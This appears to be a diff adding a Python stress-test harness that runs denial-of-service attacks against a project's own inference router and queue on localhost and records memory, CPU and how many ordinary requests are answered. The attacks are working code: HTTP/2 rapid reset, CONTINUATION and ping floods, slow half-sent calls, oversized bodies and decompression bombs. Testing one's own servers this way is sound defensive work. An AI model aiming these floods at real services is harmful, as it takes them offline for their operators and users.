@@ -1,0 +1,530 @@
+"""Attacks on the doors of the data plane: connections, streams, calls and bodies that cost much.
+
+    python -m experiments.attack.front_doors [--files 1024] [ATTACK ...]
+
+starts a router, a queue and a stub model on free ports of this machine, attacks the router or the queue, and
+asks the router for ordinary inferences meanwhile, each over a connection of its own. Each attack has servers
+of its own. The attacker and the ordinary client have the same address.
+"""
+
+from __future__ import annotations
+
+import argparse
+import asyncio
+import json
+import struct
+import subprocess
+import sys
+import tempfile
+import time
+import zlib
+from collections import Counter
+from collections.abc import Awaitable, Callable, Iterator, Mapping
+from contextlib import ExitStack, contextmanager
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import psutil
+
+from experiments.attack.figures import Figure, print_table
+from ipa.adapters.processes import child_environment, free_port, kill, start
+
+STUB = Path(__file__).with_name("stub.py")
+HOME, PIPELINE, STAGE = "127.0.0.1", "echo", "say"
+READY_S = 30.0
+# Open files of the router and the queue, the soft limit of most systems.
+FILES = 1024
+# After which a connection that was closed is opened again.
+AGAIN_S = 5.0
+# An ordinary request is answered within that, and as many of them as are asked for.
+WITHIN_S = 0.5
+RATE_RPS = 20.0
+GRPC_PATH = "/inference.GRPCInferenceService/ModelInfer"
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+# Frame types and flags of HTTP/2 (RFC 9113, 6).
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
+END_STREAM, ACK, END_HEADERS = 1, 1, 4
+FRAME = 16384
+MB = 1_000_000
+
+
+@dataclass
+class Servers:
+    """A router, its queue and its model, as processes."""
+
+    ports: Mapping[str, int]
+    processes: Mapping[str, psutil.Process]
+
+    def memory_mb(self, name: str) -> float:
+        """The resident memory of one of them."""
+        return float(self.processes[name].memory_info().rss) / MB
+
+    def cpu_s(self, name: str) -> float:
+        """The CPU time that one of them has taken."""
+        times = self.processes[name].cpu_times()
+        return float(times.user + times.system)
+
+    def files(self, name: str) -> int:
+        """Its open files."""
+        return int(self.processes[name].num_fds())
+
+
+@contextmanager
+def servers(files: int = FILES) -> Iterator[Servers]:
+    """Start them, each with at most that many open files."""
+    ports = {name: free_port() for name in ("model", "queue", "router")}
+    urls = {name: f"http://{HOME}:{port}" for name, port in ports.items()}
+    queue = ["--pipeline", PIPELINE, "--stage", STAGE, "--replica", f"stub={urls['model']}"]
+    commands = {
+        "model": [str(STUB), str(ports["model"]), "--stage", STAGE],
+        "queue": ["-m", "ipa.dataplane.queue", *queue, "--port", str(ports["queue"])],
+        "router": ["-m", "ipa.dataplane.router", "--pipeline", PIPELINE, "--port", str(ports["router"])],
+    }
+    commands["router"] += ["--stage", f"{STAGE}={urls['queue']}"]
+    with ExitStack() as resources, tempfile.TemporaryDirectory() as folder:
+        running: dict[str, psutil.Process] = {}
+        for name, command in commands.items():
+            log = resources.enter_context((Path(folder) / name).open("wb"))
+            limited = ["sh", "-c", f'ulimit -n {files}; exec "$0" "$@"', sys.executable, *command]
+            process = start(limited, stdout=log, stderr=log, env=child_environment())
+            resources.callback(process.wait)
+            resources.callback(kill, process)
+            running[name] = psutil.Process(process.pid)
+        found = Servers(ports, running)
+        asyncio.run(_until_ready(found))
+        yield found
+
+
+async def _until_ready(target: Servers) -> None:
+    give_up_s = time.monotonic() + READY_S
+    while await ask(target, 1) != "200":
+        if time.monotonic() > give_up_s:
+            raise TimeoutError(f"the router does not serve within {READY_S:g} s")
+        await asyncio.sleep(0.1)
+
+
+@dataclass
+class Ordinary:
+    """What became of ordinary requests."""
+
+    outcomes: Counter[str] = field(default_factory=Counter)
+    times_s: list[float] = field(default_factory=list)
+
+    @property
+    def answered_ratio(self) -> float:
+        """The share that was answered in time."""
+        return self.outcomes["200"] / max(1, self.outcomes.total())
+
+
+async def ask(target: Servers, number: int) -> str:
+    """The status of an ordinary request, or what happened instead."""
+    body = json.dumps(
+        {"inputs": [{"name": "x", "datatype": "INT64", "shape": [1], "data": [number]}]}
+    ).encode()
+    request = post(f"/v2/models/{PIPELINE}/infer", body)
+    try:
+        async with asyncio.timeout(WITHIN_S):
+            return await _answer(target.ports["router"], request)
+    except TimeoutError:
+        return "late"
+    except (OSError, asyncio.IncompleteReadError, IndexError) as error:
+        return type(error).__name__
+
+
+def post(path: str, body: bytes, headers: Mapping[str, str] | None = None) -> bytes:
+    """A request of HTTP/1.1."""
+    given = {"host": HOME, "connection": "close", "content-length": str(len(body)), **(headers or {})}
+    lines = "".join(f"{name}: {value}\r\n" for name, value in given.items())
+    return f"POST {path} HTTP/1.1\r\n{lines}\r\n".encode() + body
+
+
+async def _answer(port: int, request: bytes) -> str:
+    reader, writer = await asyncio.open_connection(HOME, port)
+    try:
+        writer.write(request)
+        head = await reader.readline()
+        return head.split()[1].decode()
+    finally:
+        writer.close()
+
+
+async def ordinary(target: Servers, seconds: float) -> Ordinary:
+    """Send ordinary requests at a fixed rate, whether or not answers come."""
+    found = Ordinary()
+
+    async def one(number: int) -> None:
+        sent_s = time.monotonic()
+        found.outcomes[await ask(target, number)] += 1
+        found.times_s.append(time.monotonic() - sent_s)
+
+    async with asyncio.TaskGroup() as tasks:
+        for number in range(round(seconds * RATE_RPS)):
+            tasks.create_task(one(number))
+            await asyncio.sleep(1 / RATE_RPS)
+    return found
+
+
+# What an attack does until it is cancelled; it counts what it was answered.
+Attack = Callable[[Servers, Counter[str]], Awaitable[None]]
+
+
+@dataclass(frozen=True)
+class Door:
+    """An attack, the server it is made on, for how long, and by how much its memory may grow."""
+
+    name: str
+    attack: Attack
+    on: str = "router"
+    seconds: float = 3.0
+    most_mb: float = 300.0
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    """A frame of HTTP/2."""
+    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload
+
+
+def header(name: str, value: str) -> bytes:
+    """A header field without compression (RFC 7541, 6.2.2)."""
+    parts = (name.encode(), value.encode())
+    return b"\x00" + b"".join(bytes((len(part),)) + part for part in parts)
+
+
+CALL = b"".join(
+    header(name, value)
+    for name, value in {
+        **{":method": "POST", ":scheme": "http", ":path": GRPC_PATH, ":authority": HOME},
+        **{"content-type": "application/grpc", "te": "trailers"},
+    }.items()
+)
+BEGIN = PREFACE + frame(SETTINGS, 0, 0)
+
+
+async def _open(target: Servers, on: str = "router") -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
+    return await asyncio.open_connection(HOME, target.ports[on])
+
+
+async def nothing(target: Servers, seen: Counter[str]) -> None:
+    """What the machine itself does to ordinary requests."""
+
+
+async def idle_connections(target: Servers, seen: Counter[str], count: int = 700) -> None:
+    """Open connections of HTTP/2 that say nothing more, and open those that are closed again."""
+
+    async def one() -> None:
+        while True:
+            try:
+                reader, writer = await _open(target)
+                writer.write(BEGIN)
+                seen["opened"] += 1
+                while await reader.read(4096):
+                    pass
+                writer.close()
+            except OSError:
+                pass
+            seen["closed"] += 1
+            await asyncio.sleep(AGAIN_S)
+
+    await asyncio.gather(*(one() for _ in range(count)))
+
+
+async def half_calls(target: Servers, seen: Counter[str], count: int = 700) -> None:
+    """Open connections of HTTP/2, each with a call whose message does not arrive."""
+
+    async def one() -> None:
+        _, writer = await _open(target)
+        writer.write(BEGIN + frame(HEADERS, END_HEADERS, 1, CALL))
+        seen["opened"] += 1
+        await asyncio.Event().wait()
+
+    await asyncio.gather(*(one() for _ in range(count)))
+
+
+async def _flood(
+    target: Servers, seen: Counter[str], begin: bytes, blocks: Callable[[], Iterator[bytes]]
+) -> None:
+    """Send as much as is taken, over eight connections that are opened again each time they are closed."""
+
+    async def one() -> None:
+        while True:
+            try:
+                reader, writer = await _open(target)
+                reading = asyncio.create_task(reader.read(-1))
+                writer.write(begin)
+                seen["opened"] += 1
+                for block in blocks():
+                    writer.write(block)
+                    await writer.drain()
+                    seen["blocks"] += 1
+                await reading
+            except OSError:
+                seen["closed"] += 1
+            await asyncio.sleep(0.05)
+
+    await asyncio.gather(*(one() for _ in range(8)))
+
+
+async def rapid_reset(target: Servers, seen: Counter[str]) -> None:
+    """Begin calls and take each back at once (CVE-2023-44487)."""
+
+    def blocks() -> Iterator[bytes]:
+        for first in range(1, 2**30, 200):
+            streams = range(first, first + 200, 2)
+            yield b"".join(
+                frame(HEADERS, END_HEADERS, it, CALL) + frame(RST_STREAM, 0, it, bytes((0, 0, 0, 8)))
+                for it in streams
+            )
+
+    await _flood(target, seen, BEGIN, blocks)
+
+
+async def continuations(target: Servers, seen: Counter[str]) -> None:
+    """Begin headers that do not end (VU#421644)."""
+
+    def blocks() -> Iterator[bytes]:
+        while True:
+            yield frame(CONTINUATION, 0, 1, header("x", "y" * 100) * 100)
+
+    await _flood(target, seen, BEGIN + frame(HEADERS, 0, 1, CALL), blocks)
+
+
+async def pings(target: Servers, seen: Counter[str]) -> None:
+    """Ask for answers to frames of control (CVE-2019-9512 and -9515)."""
+
+    def blocks() -> Iterator[bytes]:
+        while True:
+            yield (frame(PING, 0, 0, bytes(8)) + frame(SETTINGS, 0, 0)) * 500
+
+    await _flood(target, seen, BEGIN, blocks)
+
+
+def calls(size: int, count: int, *, whole: bool = True) -> Attack:
+    """Calls of gRPC at once, each with a message of that many bytes, whole or but for its last byte."""
+    # A message without a known field but `raw_input_contents`, its seventh.
+    length = size - 5
+    varint = bytes([*((length >> shift & 127) | 128 for shift in (0, 7, 14)), length >> 21])
+    message = b"\x3a" + varint + bytes(size - 5)
+    body = b"\x00" + struct.pack(">I", len(message)) + (message if whole else message[:-1])
+
+    async def attack(target: Servers, seen: Counter[str]) -> None:
+        async def one() -> None:
+            while True:
+                seen[await _call(target, body)] += 1
+                await asyncio.sleep(0.2)
+
+        await asyncio.gather(*(one() for _ in range(count)))
+
+    return attack
+
+
+async def _call(target: Servers, body: bytes) -> str:
+    """Make a call, within the windows that the server gives, and return how it ended."""
+    import h2.config
+    import h2.connection
+    import h2.events
+    import h2.exceptions
+
+    http = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding=None))
+    http.initiate_connection()
+    sent = 0
+    try:
+        reader, writer = await _open(target)
+    except OSError as error:
+        return type(error).__name__
+    try:
+        http.send_headers(
+            1,
+            [
+                *((":method", "POST"), (":scheme", "http"), (":path", GRPC_PATH), (":authority", HOME)),
+                *(("content-type", "application/grpc"), ("te", "trailers")),
+            ],
+        )
+        while True:
+            while sent < len(body) and (room := min(http.local_flow_control_window(1), FRAME)):
+                http.send_data(1, body[sent : sent + room], end_stream=sent + room >= len(body))
+                sent += room
+                writer.write(http.data_to_send())
+                await writer.drain()
+            writer.write(http.data_to_send())
+            data = await reader.read(1 << 16)
+            if not data:
+                return "closed"
+            for event in http.receive_data(data):
+                if isinstance(event, h2.events.StreamReset):
+                    return f"reset {event.error_code}"
+                fields = dict(getattr(event, "headers", None) or {})
+                if b"grpc-status" in fields:
+                    return f"grpc-status {fields[b'grpc-status'].decode()}"
+                if isinstance(event, h2.events.ConnectionTerminated):
+                    return f"terminated {event.error_code}"
+    except (OSError, h2.exceptions.H2Error) as error:
+        return type(error).__name__
+    finally:
+        writer.close()
+
+
+def bodies(body: bytes, headers: Mapping[str, str], senders: int, on: str = "router") -> Attack:
+    """The same request again and again, by that many senders."""
+    name = PIPELINE if on == "router" else STAGE
+    request = post(f"/v2/models/{name}/infer", body, headers)
+
+    async def attack(target: Servers, seen: Counter[str]) -> None:
+        async def one() -> None:
+            while True:
+                try:
+                    seen[await _answer(target.ports[on], request)] += 1
+                except (OSError, IndexError) as error:
+                    seen[type(error).__name__] += 1
+                await asyncio.sleep(0.05)
+
+        await asyncio.gather(*(one() for _ in range(senders)))
+
+    return attack
+
+
+def binary_body(shape: str, raw: bytes) -> tuple[bytes, dict[str, str]]:
+    """A request with a tensor of BYTES as bytes after its JSON."""
+    head = {"name": "x", "datatype": "BYTES", "parameters": {"binary_data_size": len(raw)}}
+    text = json.dumps({"inputs": [head]}).replace('"parameters"', f'"shape": {shape}, "parameters"').encode()
+    return text + raw, {"inference-header-content-length": str(len(text))}
+
+
+def json_body(values: bytes, shape: str = "[1]") -> bytes:
+    """A request whose tensor has that text for its data."""
+    text = f'{{"inputs": [{{"name": "x", "datatype": "INT64", "shape": {shape}, "data": ['.encode()
+    return text + values + b"]}]}"
+
+
+def layers(count: int) -> bytes:
+    """A body in that many layers of gzip."""
+    body = json_body(b"1")
+    for _ in range(count):
+        body = _gzip(body)
+    return body
+
+
+def _gzip(body: bytes) -> bytes:
+    writer = zlib.compressobj(6, zlib.DEFLATED, 31)
+    return writer.compress(body) + writer.flush()
+
+
+def bomb(size: int) -> bytes:
+    """A body of `deflate` that has that many bytes when it is inflated."""
+    return zlib.compress(json_body(b"[]," * (size // 3) + b"[]"), 9)
+
+
+def doors() -> Iterator[Door]:
+    """All attacks; the bodies are made only when it is their turn."""
+    yield Door("no attack", nothing)
+    yield Door("700 idle HTTP/2 connections", idle_connections)
+    yield Door("700 half calls over HTTP/2", half_calls)
+    yield Door("rapid reset", rapid_reset)
+    yield Door("CONTINUATION flood", continuations)
+    yield Door("PING and SETTINGS flood", pings)
+    yield Door("30 gRPC calls of 60 MB", calls(60 * MB, 30))
+    yield Door("30 gRPC calls of 8 MB", calls(8 * MB, 30))
+    yield Door("40 gRPC calls of 8 MB without an end", calls(8 * MB, 40, whole=False))
+    for on in ("router", "queue"):
+        for size in (8, 16) if on == "queue" else (16,):
+            body, headers = binary_body("[1]", bytes(size * MB))
+            yield Door(f"{size} MB of BYTES in a wrong shape, {on}", bodies(body, headers, 2, on), on)
+        for size in (8, 60) if on == "queue" else (60,):
+            lists = json_body(b"[]," * (size * MB // 3) + b"[]")
+            yield Door(f"{size} MB of JSON of empty lists, {on}", bodies(lists, {}, 2, on), on)
+    layered = {"content-encoding": ", ".join(["gzip"] * 7000)}
+    yield Door("7 000 layers of gzip", bodies(layers(7000), layered, 2))
+    yield Door("deflate bombs from 8 senders", bodies(bomb(60 * MB), {"content-encoding": "deflate"}, 8))
+    numbers = json_body(b"1," * (4 * MB - 100) + b"1", f"[{4 * MB - 99}]")
+    yield Door("8 MB of JSON of numbers, queue", bodies(numbers, {}, 2, "queue"), "queue")
+
+
+def attack(door: Door, files: int = FILES) -> list[Figure]:
+    """Make the attack on servers of its own, and return its figures."""
+    with servers(files) as target:
+        return asyncio.run(_attack(door, target))
+
+
+async def _attack(door: Door, target: Servers) -> list[Figure]:
+    seen: Counter[str] = Counter()
+    before_mb = peak_mb = target.memory_mb(door.on)
+    most_files = 0
+
+    async def weigh() -> None:
+        nonlocal peak_mb, most_files
+        while True:
+            peak_mb = max(peak_mb, target.memory_mb(door.on))
+            most_files = max(most_files, target.files(door.on))
+            await asyncio.sleep(0.05)
+
+    # In a process of its own, which the attack does not delay.
+    ports = json.dumps(dict(target.ports))
+    asking = await asyncio.create_subprocess_exec(
+        *(sys.executable, "-m", __spec__.name, "--ordinary", ports, str(door.seconds)),
+        stdin=subprocess.PIPE,
+        stdout=subprocess.PIPE,
+    )
+    assert asking.stdin is not None and asking.stdout is not None
+    await asking.stdout.readline()
+    # Connections that the server resets are what an attack is for.
+    asyncio.get_running_loop().set_exception_handler(lambda _loop, _context: None)
+    tasks = [asyncio.ensure_future(door.attack(target, seen)), asyncio.create_task(weigh())]
+    await asyncio.sleep(1.0)
+    began_s, before_s = time.monotonic(), target.cpu_s(door.on)
+    output, _ = await asking.communicate(b"\n")
+    cores = (target.cpu_s(door.on) - before_s) / (time.monotonic() - began_s)
+    for task in tasks:
+        task.cancel()
+    await asyncio.gather(*tasks, return_exceptions=True)
+    given = json.loads(output)
+    outcomes = Counter[str](given["outcomes"])
+    answered = outcomes["200"] / max(1, outcomes.total())
+    told = ", ".join(f"{count} × {name}" for name, count in seen.most_common(6))
+    others = ", ".join(f"{count} × {name}" for name, count in outcomes.items())
+    await asyncio.sleep(1.0)
+    after_mb = target.memory_mb(door.on)
+    return [
+        Figure("ordinary requests answered in 0.5 s, ratio", answered, at_least=0.99, told=others),
+        Figure("slowest ordinary answer s", max(given["times_s"], default=0.0)),
+        Figure("CPU of the server, cores", cores),
+        Figure("memory grown MB", peak_mb - before_mb, at_most=door.most_mb, told=told),
+        Figure("memory kept MB", after_mb - before_mb),
+        Figure("most files", most_files, at_most=FILES),
+    ]
+
+
+def run(
+    tell: Callable[[str], None], only: tuple[str, ...] = (), files: int = FILES
+) -> dict[str, list[Figure]]:
+    """All attacks, or those whose names have one of the words."""
+    found: dict[str, list[Figure]] = {}
+    for door in doors():
+        if only and not any(word in door.name for word in only):
+            continue
+        found[door.name] = attack(door, files)
+        tell(f"{door.name}: done")
+    return found
+
+
+def _ordinary(ports: Mapping[str, int], seconds: float) -> None:
+    """Ask from the first line on of standard input, and print what became of it."""
+    print("ready", flush=True)
+    sys.stdin.readline()
+    found = asyncio.run(ordinary(Servers(ports, {}), seconds))
+    print(json.dumps({"outcomes": found.outcomes, "times_s": found.times_s}))
+
+
+def main() -> int:
+    """Attack, and print the table."""
+    parser = argparse.ArgumentParser(prog="python -m experiments.attack.front_doors", description=__doc__)
+    parser.add_argument("only", nargs="*", help="words of the names of attacks; all without")
+    parser.add_argument("--files", type=int, default=FILES, help="open files that each server may have")
+    parser.add_argument("--ordinary", nargs=2, help=argparse.SUPPRESS)
+    given = parser.parse_args()
+    if given.ordinary:
+        _ordinary(json.loads(given.ordinary[0]), float(given.ordinary[1]))
+        return 0
+    return print_table(run(lambda line: print(line, flush=True), tuple(given.only), given.files))
+
+
+if __name__ == "__main__":
+    sys.exit(main())
